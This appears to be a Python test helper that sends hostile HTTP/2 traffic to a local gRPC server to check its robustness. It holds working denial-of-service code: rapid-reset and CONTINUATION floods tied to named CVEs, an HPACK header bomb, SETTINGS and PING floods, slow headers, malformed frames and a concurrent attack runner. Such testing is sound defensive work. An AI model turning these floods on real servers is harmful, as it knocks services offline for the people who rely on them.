"""What strangers may send to a port that is not gRPC, or only begins like it."""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
import struct
from collections.abc import AsyncIterator, Awaitable, Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 6, 7, 8, 9
END_HEADERS = 4
IDLE_S = 0.5

TLS_HELLO = bytes.fromhex(
    "16030100c6010000c20303" + "5a" * 32 + "20" + "5b" * 32 + "0004130113020100" + "00" * 80
)


class Stranger:
    """One connection to the port."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer

    async def send(self, raw: bytes) -> None:
        """Send bytes; a server that has closed the connection is a good answer."""
        with contextlib.suppress(ConnectionError):
            self._writer.write(raw)
            async with asyncio.timeout(5):
                await self._writer.drain()

    async def read(self, seconds: float = IDLE_S) -> bytes:
        """Whatever comes within a time."""
        with contextlib.suppress(TimeoutError, ConnectionError):
            async with asyncio.timeout(seconds):
                return await self._reader.read(65_536)
        return b""

    async def is_closed_within(self, seconds: float) -> bool:
        """Whether the server hangs up."""
        with contextlib.suppress(TimeoutError, ConnectionError):
            async with asyncio.timeout(seconds):
                while await self._reader.read(65_536):
                    pass
                return True
        return False

    def hang_up(self) -> None:
        """Close, without waiting for anything."""
        self._writer.transport.abort()


@contextlib.asynccontextmanager
async def connected(address: str) -> AsyncIterator[Stranger]:
    """A connection, which is cut at the end."""
    host, _, port = address.rpartition(":")
    stranger = Stranger(*await asyncio.open_connection(host, int(port)))
    try:
        yield stranger
    finally:
        stranger.hang_up()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header without compression (RFC 7541, 6.2.2)."""
    return b"\x00" + prefixed(name) + prefixed(value)


def prefixed(text: bytes) -> bytes:
    """A text behind its length (RFC 7541, 5.1)."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, out = len(text) - 127, bytearray([127])
    while rest > 127:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out) + bytes([rest]) + text


def call(path: bytes) -> bytes:
    """The headers of a call."""
    headers = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
    return b"".join(literal(name, value) for name, value in headers)


CALL = call(b"/smoothcore.v1.AuthService/WhoAmI")
OPENED = PREFACE + frame(SETTINGS, 0, 0)


async def random_bytes(stranger: Stranger) -> None:
    await stranger.send(os.urandom(random.randint(1, 5_000)))
    await stranger.read()


async def http_1(stranger: Stranger) -> None:
    await stranger.send(b"GET /v1/tools HTTP/1.1\r\nHost: localhost\r\n\r\n")
    await stranger.read()


async def tls_hello(stranger: Stranger) -> None:
    await stranger.send(TLS_HELLO)
    await stranger.read()


async def nothing(stranger: Stranger) -> None:
    await stranger.read()


async def preface_and_nothing(stranger: Stranger) -> None:
    await stranger.send(PREFACE)
    await stranger.read()


async def slow_headers(stranger: Stranger) -> None:
    await stranger.send(OPENED)
    for byte in frame(HEADERS, END_HEADERS, 1, CALL)[:4]:
        await stranger.send(bytes([byte]))
        await asyncio.sleep(IDLE_S)


async def settings_flood(stranger: Stranger) -> None:
    await stranger.send(OPENED + frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") * 5_000)
    await stranger.read()


async def ping_flood(stranger: Stranger) -> None:
    await stranger.send(OPENED + frame(PING, 0, 0, b"12345678") * 5_000)
    await stranger.read()


async def reset_flood(stranger: Stranger) -> None:
    """Calls that are taken back at once (CVE-2023-44487)."""
    await stranger.send(OPENED)
    calls = (
        frame(HEADERS, END_HEADERS, number, CALL) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
        for number in range(1, 2_001, 2)
    )
    await stranger.send(b"".join(calls))
    await stranger.read()


async def continuation_flood(stranger: Stranger) -> None:
    """Headers that never end (CVE-2024-27316 and its kin)."""
    await stranger.send(OPENED + frame(HEADERS, 0, 1, CALL))
    for _ in range(50):
        filler = literal(b"x-filler", b"a" * 8_000) * 2
        await stranger.send(frame(CONTINUATION, 0, 1, filler))
    await stranger.read()


async def huge_header(stranger: Stranger) -> None:
    value = literal(b"authorization", b"Bearer " + b"a" * 15_000)
    await stranger.send(OPENED + frame(HEADERS, END_HEADERS, 1, CALL + value))
    await stranger.read()


async def header_bomb(stranger: Stranger) -> None:
    """One header, kept in the table, and named a thousand times by one byte each."""
    kept = b"\x40" + prefixed(b"x-bomb") + prefixed(b"a" * 3_900)
    await stranger.send(OPENED + frame(HEADERS, END_HEADERS, 1, CALL + kept + b"\xbe" * 12_000))
    await stranger.read()


async def huge_message(stranger: Stranger) -> None:
    """A message that says it has four gigabytes."""
    started = frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff")
    await stranger.send(OPENED + started + frame(DATA, 0, 1, b"\x00" * 16_000) * 3)
    await stranger.read()


async def bad_frames(stranger: Stranger) -> None:
    kind, flags, number = random.randrange(256), random.randrange(256), random.randrange(2**31)
    await stranger.send(OPENED + frame(kind, flags, number, os.urandom(random.randrange(300))))
    await stranger.read()


async def window_games(stranger: Stranger) -> None:
    """A window that overflows, and one that does not move."""
    await stranger.send(OPENED + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 3)
    await stranger.send(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\0") + frame(GOAWAY, 0, 0, b"\0" * 8))
    await stranger.read()


Attack = Callable[[Stranger], Awaitable[None]]
ATTACKS: tuple[Attack, ...] = (
    random_bytes,
    http_1,
    tls_hello,
    nothing,
    preface_and_nothing,
    slow_headers,
    settings_flood,
    ping_flood,
    reset_flood,
    continuation_flood,
    huge_header,
    header_bomb,
    huge_message,
    bad_frames,
    window_games,
)


async def attack(address: str, how: Attack, times: int, at_once: int = 20) -> None:
    """Attack so many times, from so many connections at once."""
    places = asyncio.Semaphore(at_once)

    async def once() -> None:
        async with places:
            with contextlib.suppress(ConnectionError, TimeoutError):
                async with connected(address) as stranger:
                    await how(stranger)

    await asyncio.gather(*[once() for _ in range(times)])


async def knock(address: str, times: int, at_once: int = 200) -> int:
    """Connect and hang up; gives how often there was a connection."""
    places = asyncio.Semaphore(at_once)
    made = 0

    async def once() -> None:
        nonlocal made
        async with places:
            with contextlib.suppress(OSError):
                async with connected(address):
                    made += 1

    await asyncio.gather(*[once() for _ in range(times)])
    return made
